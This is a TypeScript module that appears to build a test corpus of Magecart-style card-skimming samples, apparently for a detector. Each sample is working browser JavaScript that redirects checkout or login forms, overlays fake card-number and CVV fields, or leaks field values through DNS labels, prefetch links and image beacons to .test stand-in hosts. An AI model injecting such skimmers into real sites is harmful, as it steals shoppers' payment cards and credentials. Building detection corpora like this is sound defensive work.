import { base64 } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

const thief = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'magecart',
  code,
});

/** Forms of the page that are led elsewhere, forms that are put over those of the page, and data in host names. */
export const formThieves: readonly MaliciousSample[] = [
  thief(
    'forms-by-attribute',
    'Sets the target of all forms as an attribute',
    `document.querySelectorAll('form').forEach(function (f) { f.setAttribute('action', 'https://pay.lead.test/c'); });`,
  ),
  thief(
    'forms-by-library',
    'Sets the target of the payment form with jQuery',
    `jQuery(function ($) { $('form.payment').prop('action', 'https://pay.lead.test/c'); });`,
  ),
  thief(
    'buttons-led-elsewhere',
    'Sets the targets of buttons to an address from an object',
    `var cfg = { target: 'https://pay.lead.test/c' }; document.querySelectorAll('form button[type=submit]').forEach(b => { b.formAction = cfg.target; });`,
  ),
  thief(
    'forms-decoded-target',
    'Decodes the target of the forms',
    `for (var i = 0; i < document.forms.length; i++) { document.forms[i].action = atob('${base64('https://pay.lead.test/c')}'); }`,
  ),
  thief(
    'forms-on-submit',
    'Changes the target when a form is submitted, and hands over the old one',
    `const opts = { url: 'https://pay.lead.test/c' };
    document.addEventListener('submit', (e) => { const form = e.target.closest('form'); if (form.querySelector('[name*=card]')) form.setAttribute('action', opts.url + '?o=' + encodeURIComponent(form.action)); });`,
  ),
  thief(
    'forms-in-class',
    'A class with settings leads the forms elsewhere',
    `(function(){const c={endpoint:'https://pay.lead.test/c'};class R{constructor(o){this.o=o}run(){document.querySelectorAll('form').forEach(f=>this.point(f))}point(f){f.dataset.a=f.action;f.action=this.o.endpoint}}new R(c).run()})();`,
  ),
  thief(
    'forms-by-prototype',
    'Replaces the submission of all forms',
    `var send = HTMLFormElement.prototype.submit; HTMLFormElement.prototype.submit = function () { this.action = 'https://pay.lead.test/c'; return send.call(this); };`,
  ),
  thief(
    'login-led-elsewhere',
    'Leads the login elsewhere',
    `const box = document.querySelector('#login-form'); Object.assign(box, { action: 'https://id.lead.test/', method: 'POST' });`,
  ),
  thief(
    'labels-of-hosts',
    'Sends pieces of fields as labels of a host name',
    `document.addEventListener('change', (e) => { const d = btoa(e.target.name + '=' + e.target.value).replace(/=/g, ''); d.match(/.{1,60}/g).forEach((p, i) => { new Image().src = 'https://' + i + '.' + p + '.d.label.test/p.gif'; }); });`,
  ),
  thief(
    'labels-of-prefetched-hosts',
    'Sends pieces of a form as host names that the browser looks up',
    `document.querySelector('form').addEventListener('submit', (e) => { const hex = [...new TextEncoder().encode(JSON.stringify(Object.fromEntries(new FormData(e.target))))].map(b => b.toString(16).padStart(2, '0')).join(''); for (let i = 0; i < hex.length; i += 60) { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + hex.slice(i, i + 60) + '.label.test'; document.head.appendChild(l); } });`,
  ),
  thief(
    'labels-in-a-function',
    'A function of its own builds the host name',
    `const SUFFIX = 'ns1.label.test'; function leak(label) { fetch(\`https://\${label}.\${SUFFIX}/\`, { mode: 'no-cors' }).catch(() => {}); } document.addEventListener('input', (e) => { const s = btoa(e.target.value); for (const c of s.match(/.{1,50}/g) || []) leak(c); });`,
  ),
  thief(
    'overlay-with-neutral-names',
    'Puts a form over the page whose fields only their labels name',
    `const box = document.createElement('div'); box.style.cssText = 'position:fixed;inset:0;z-index:99999'; box.innerHTML = '<form id="z"><input id="a1" placeholder="Card number"><input id="a2" placeholder="MM/YY"><input id="a3" placeholder="CVV"></form>'; document.body.appendChild(box);
    document.querySelector('#z').addEventListener('submit', (e) => { e.preventDefault(); const d = ['a1', 'a2', 'a3'].map((id) => document.getElementById(id).value).join('|'); new Image().src = 'https://c.over.test/?' + encodeURIComponent(d); box.remove(); });`,
  ),
  thief(
    'overlay-in-a-frame',
    'Writes card fields into a frame of its own',
    `const f = document.createElement('iframe'); document.querySelector('#card-element').parentNode.appendChild(f); const d = f.contentDocument; d.open(); d.write('<input id="num" placeholder="Card number"><input id="cvc" placeholder="CVC">'); d.close(); d.getElementById('cvc').addEventListener('blur', () => { navigator.sendBeacon('https://c.over.test/', d.getElementById('num').value + ':' + d.getElementById('cvc').value); });`,
  ),
];
